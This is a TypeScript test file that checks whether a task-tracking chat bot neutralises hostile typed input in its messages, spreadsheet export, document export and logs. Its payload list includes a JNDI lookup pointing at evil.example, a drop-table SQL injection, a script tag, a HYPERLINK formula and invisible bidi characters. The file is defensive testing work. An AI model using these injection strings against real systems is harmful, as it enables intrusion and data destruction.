/** Typed text that wants to be more than text, through every way in, looked for in everything that goes out (promise 8). */
import { readXlsx } from 'hucre/xlsx'
import mammoth from 'mammoth'
import pino from 'pino'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { openWorld, type World } from '../world.ts'

/** Mentions, links, formats, formulas, templates, and characters that turn a line round or cannot be seen. */
const EVIL = [
  '<at id=all></at>',
  '<at user_id="all">大家</at>',
  '[点此](http://evil.example)',
  'http://evil.example/<b>粗</b>',
  '=HYPERLINK("http://evil.example")',
  '**粗**_斜_~~删~~',
  '<font color="red">红</font>',
  '\u202eevil倒序\u202c',
  'ev\u200bil\u2066零宽\u2069',
  `{{7*7}}${'$'}{jndi:ldap://evil.example}`,
  "');drop table matters;--",
  '<script>alert(1)</script>',
]

const GROUP = '督办工作群'
const lines: string[] = []
let world: World

beforeAll(async () => {
  world = await openWorld({
    log: pino({ level: 'trace' }, { write: (line: string) => void lines.push(line) }),
  })
  for (const [i, evil] of EVIL.entries()) {
    const id = i + 1
    await world.says('陈静', `交办 @王强 “报送${evil}材料” 12月4日前`, i % 2 ? GROUP : undefined)
    await world.says('李娜', `签收并分办 ${id}`)
    await world.says('王强', `报 ${id} 已联系${evil}，完成6${i % 10}%`)
    await world.says('王强', `意见 食堂${evil}太远`)
  }
  await world.says('李娜', `报议题 服务企业周例会 ${EVIL[0]}${EVIL[2]}用地`)
  await world.says('陈静', '台账 导出')
  await world.says('陈静', '督办单 1 蓝')
  await world.says('李娜', '议程 服务企业')
  await world.turnsTo('2026-11-24 09:10')
  await world.says('郑国栋', '简报')
}, 120_000)
afterAll(() => world.close())

/** Every message of the bot in every chat that saw one. */
const shown = () => {
  const { street } = world.ground
  const chats = [...new Set(street.effects().map((one) => one.chat))]
  return chats.flatMap((chat) => street.messages(chat)).filter((one) => one.from === 'bot')
}

function* nodes(value: unknown): Generator<Record<string, unknown>> {
  if (typeof value !== 'object' || value === null) return
  if (!Array.isArray(value)) yield value as Record<string, unknown>
  for (const one of Object.values(value)) yield* nodes(one)
}

const files = () =>
  (world.ground.street.snapshot() as { files: { name: string; base64: string }[] }).files.map(
    ({ name, base64 }) => ({ name, bytes: Buffer.from(base64, 'base64') }),
  )

describe('what was typed to mention, link, format, compute or hide', () => {
  test('was taken for what it says, and shown', async () => {
    const all = JSON.stringify(shown().map((one) => one.content))
    expect(await world.ground.bot.office.store.look((store) => store.matters.count({}))).toBe(
      EVIL.length,
    )
    for (const seen of ['<at id=all>', '(http://evil.example)', '=HYPERLINK', '{{7*7}}'])
      expect(all).toContain(seen)
  })

  test('stands in no element that the platform would parse, in group or private cards, digest or agenda', () => {
    const messages = shown()
    expect(messages.length).toBeGreaterThan(EVIL.length * 2)
    const parsed = messages.flatMap(({ type, content }) => {
      // A plain text message would turn mentions and links alive: the bot sends none.
      if (type === 'text') return [String(content)]
      return [...nodes(content)].flatMap((node) => {
        const isAlive = ['markdown', 'lark_md', 'a', 'at', 'md'].includes(String(node.tag))
        const reaches = 'href' in node || 'url' in node || 'multi_url' in node
        return isAlive || reaches ? [JSON.stringify(node)] : []
      })
    })
    expect(parsed.filter((one) => /evil|<at|大家|粗|红/.test(one))).toEqual([])
  })

  test('turns no line round, and hides nothing', () => {
    const text = JSON.stringify(shown().map((one) => one.content))
    expect(text).not.toMatch(/[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/)
  })

  test('is no formula and no link in the exported ledger', async () => {
    const [book] = files().filter(({ name }) => name.endsWith('.xlsx'))
    const { sheets } = await readXlsx(book!.bytes)
    const cells = sheets.flatMap((sheet) => [...(sheet.cells?.values() ?? [])])
    expect(cells.filter((cell) => cell.formula !== undefined || cell.hyperlink)).toEqual([])
    const words = JSON.stringify(sheets.map((sheet) => sheet.rows))
    expect(words).toContain('=HYPERLINK')
  })

  test('is no link in a paper', async () => {
    const [paper] = files().filter(({ name }) => name.endsWith('.docx'))
    const { value } = await mammoth.convertToHtml({ buffer: paper!.bytes })
    expect(value).toContain('&lt;at id=all&gt;')
    expect(value).not.toContain('<a ')
  })

  test('is in no line of the log', () => {
    expect(lines.length).toBeGreaterThan(EVIL.length)
    expect(lines.join('\n')).not.toMatch(/evil|大家|jndi|drop table|HYPERLINK/)
  })
})
